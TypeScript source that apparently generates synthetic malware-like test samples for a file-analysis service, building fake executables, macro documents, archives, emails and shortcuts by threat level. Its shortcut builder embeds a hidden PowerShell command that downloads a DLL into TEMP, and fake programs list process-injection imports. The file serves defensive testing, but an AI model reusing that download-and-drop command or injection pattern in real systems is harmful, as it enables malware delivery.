import { makeIso, makeOffice, makeZip } from "./content/archive.ts";
import { join, latin1 } from "./content/bytes.ts";
import { makePng } from "./content/images.ts";
import { makeElf, makeProgram, makeShortcut } from "./content/programs.ts";
import {
  macroText,
  makeBatch,
  makeHtml,
  makeJs,
  makeMail,
  makePdf,
  makePs1,
  prose,
} from "./content/texts.ts";
import type { ChildRef, FileNode, FilePool, Kind } from "./file_node.ts";
import { mix, Rng } from "./rng.ts";
import type { Level, Theme } from "./theme.ts";

/** What somebody submitted: usually one file. */
export interface Sample {
  readonly files: readonly ChildRef[];
  readonly level: Level;
  /** A URL was submitted instead of a file. */
  readonly url?: string;
}

const TYPES: Readonly<Record<Kind, string>> = {
  text: "text/plain",
  csv: "text/plain",
  json: "text/json",
  ini: "text/ini",
  html: "code/html",
  js: "code/javascript",
  vbs: "code/vbs",
  ps1: "code/ps1",
  batch: "code/batch",
  python: "code/python",
  mail: "document/email",
  pdf: "document/pdf",
  word: "document/office/word",
  excel: "document/office/excel",
  macro_doc: "document/office/word",
  program: "executable/windows/pe32",
  library: "executable/windows/dll64",
  elf: "executable/linux/elf64",
  zip: "archive/zip",
  iso: "archive/iso",
  shortcut: "shortcut/windows",
  picture: "image/png",
  uri: "uri/https",
  capture: "network/tcpdump",
  marker: "text/plain",
};

function typeOf(kind: Kind, theme: Theme, seed: number): string {
  if (kind === "program" && seed % 3 === 0) return "executable/windows/pe64";
  if (kind === "uri" && theme.urls[0]?.startsWith("http:")) return "uri/http";
  return TYPES[kind];
}

/** Wishes for one file beyond its kind. */
export interface FileWish {
  readonly level?: Level;
  readonly children?: readonly ChildRef[];
  readonly extra?: readonly string[];
  readonly traits?: readonly string[];
  readonly dynamic?: boolean;
  readonly payload?: FileNode;
}

/** Builds the files of one sample. */
export class SampleMaker {
  /** Choices of this sample. */
  readonly random: Rng;
  /** What its files share. */
  readonly theme: Theme;
  readonly #seed: number;
  #made = 0;

  constructor(readonly pool: FilePool, { theme, seed }: { readonly theme: Theme; readonly seed: number }) {
    this.theme = theme;
    this.#seed = seed;
    this.random = new Rng(mix(seed, 0xf17e));
  }

  /** A file of this kind; hostile parts follow the level, which is the theme's unless wished otherwise. */
  file(kind: Kind, wish: FileWish = {}): FileNode {
    const level = wish.level ?? this.theme.level;
    const seed = mix(this.#seed, ++this.#made);
    const theme = level === this.theme.level ? this.theme : { ...this.theme, level };
    const children = wish.children ?? [];
    const recipe = {
      kind,
      seed,
      theme,
      level,
      children,
      dynamic: wish.dynamic ?? false,
      extra: wish.extra ?? [],
      traits: wish.traits ?? [],
    };
    const preview = this.#preview(kind);
    return this.pool.add({
      ...recipe,
      ...(preview ? { preview } : {}),
      type: typeOf(kind, theme, seed),
      bytes: () => BUILDERS[kind](theme, new Rng(seed), { seed, children, payload: wish.payload }),
    });
  }

  #preview(kind: Kind): FileNode | undefined {
    if (kind !== "pdf" && kind !== "word" && kind !== "macro_doc") return undefined;
    // Pages look alike: a few pictures serve all documents.
    const seed = this.random.int(0, 15);
    return this.pool.add({
      kind: "picture",
      type: "image/png",
      seed,
      theme: this.theme,
      level: "info",
      bytes: () => makePng(seed),
    });
  }
}

interface Parts {
  readonly seed: number;
  readonly children: readonly ChildRef[];
  readonly payload: FileNode | undefined;
}

function members(children: readonly ChildRef[]) {
  return children.map((child) => ({ name: child.name, bytes: child.file.bytes() }));
}

function program(
  theme: Theme,
  random: Rng,
  { dll, seed }: { readonly dll: boolean; readonly seed: number },
): Uint8Array {
  const hostile = theme.level !== "info" && theme.level !== "safe";
  const packed = theme.level === "suspicious" || theme.level === "highly";
  const wide = dll || seed % 3 === 0;
  return makeProgram({
    seed,
    dll,
    wide,
    packed,
    sections: packed ? ["UPX0", "UPX1", ".rsrc"] : [".text", ".rdata", ".data", ".rsrc"],
    imports: hostile
      ? [
        "VirtualAllocEx",
        "WriteProcessMemory",
        "CreateRemoteThread",
        "SetWindowsHookExW",
        "InternetOpenUrlA",
      ]
      : ["CreateFileW", "ReadFile", "GetModuleHandleW", "ExitProcess"],
    strings: hostile
      ? [...theme.urls, theme.family?.mutex ?? "Global\\run", theme.family?.autorun ?? "", random.hex(24)]
      : [`${theme.company} Setup ${theme.number}`, "Copyright", random.hex(24)],
    codeSize: 1024 * random.pick([2, 4, 4, 8, 16, 48]),
    linkerTime: 1_500_000_000 + random.int(0, 250_000_000),
  });
}

function rows(random: Rng): string {
  return Array.from(
    { length: random.int(5, 40) },
    (_, i) => `${i + 1};${random.hex(6)};${random.int(1, 9999)}`,
  ).join("\n");
}

type Builder = (theme: Theme, random: Rng, parts: Parts) => Uint8Array;

const BUILDERS: Readonly<Record<Kind, Builder>> = {
  text: (theme, random) =>
    join(`${theme.subject}\n\n${prose(random, random.int(3, 20))}\nRef ${random.hex(10)}\n`),
  csv: (_, random) => join(`line;key;amount\n${rows(random)}\n`),
  json: (theme, random) =>
    join(
      JSON.stringify(
        { company: theme.company, ref: random.hex(10), amounts: [random.int(1, 99), 2] },
        null,
        2,
      ),
    ),
  ini: (_, random) =>
    join(`[main]\nserver=files.corp.example\nuser=u${random.int(1, 999)}\n[cache]\npath=C:\\cache\n`),
  html: (theme, random, { payload }) =>
    makeHtml(theme, random, {
      form: theme.level === "suspicious" || theme.level === "malicious",
      ...(payload ? { payload: payload.bytes() } : {}),
    }),
  js: makeJs,
  vbs: (theme, random) => join(macroText(theme, random)),
  ps1: makePs1,
  batch: makeBatch,
  python: (_, random) =>
    join(`#!/usr/bin/env python3\nimport sys\n\n\ndef main():\n    print("${random.hex(8)}")\n\n\nmain()\n`),
  mail: (theme, random, { children }) => makeMail(theme, random, { attachments: members(children) }),
  pdf: makePdf,
  word: (theme, random) =>
    makeOffice("word", `${theme.company} ${theme.number} ${prose(random, 8)} ${random.hex(8)}`),
  excel: (theme, random) => makeOffice("xl", `${theme.company} ${rows(random)}`),
  macro_doc: (theme, random, { payload }) =>
    makeOffice(
      "word",
      `Enable content to view. ${random.hex(8)}`,
      {
        macro: payload ? latin1(payload.bytes()) : macroText(theme, random),
      },
    ),
  program: (theme, random, { seed }) => program(theme, random, { dll: false, seed }),
  library: (theme, random, { seed }) => program(theme, random, { dll: true, seed }),
  elf: (theme, random, { seed }) =>
    makeElf(seed, [...theme.urls, "/bin/busybox", "/proc/net/tcp", random.hex(12)]),
  zip: (_, __, { children }) => makeZip(members(children)),
  iso: (theme, _, { children }) => makeIso(`DOC_${theme.number}`, members(children)),
  shortcut: (theme, random) =>
    makeShortcut(
      theme.level === "info"
        ? "\\\\files.corp.example\\public"
        : `/c powershell -w hidden -c "iwr ${theme.urls[0]} -OutFile $env:TEMP\\${random.hex(5)}.dll"`,
      `Document ${theme.number}`,
    ),
  picture: (_, random, { seed }) => makePng(seed, { width: random.pick([96, 120, 160]), height: 64 }),
  uri: (theme) => join(`uri: ${theme.urls[0]}\n`),
  capture: (theme, random) =>
    join(
      new Uint8Array([0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0]),
      `GET / HTTP/1.1\r\nHost: ${theme.domains[0]}\r\n`,
      random.hex(40),
    ),
  marker: (theme, random) => join(`test file ${random.hex(8)} ${theme.number}\n`),
};
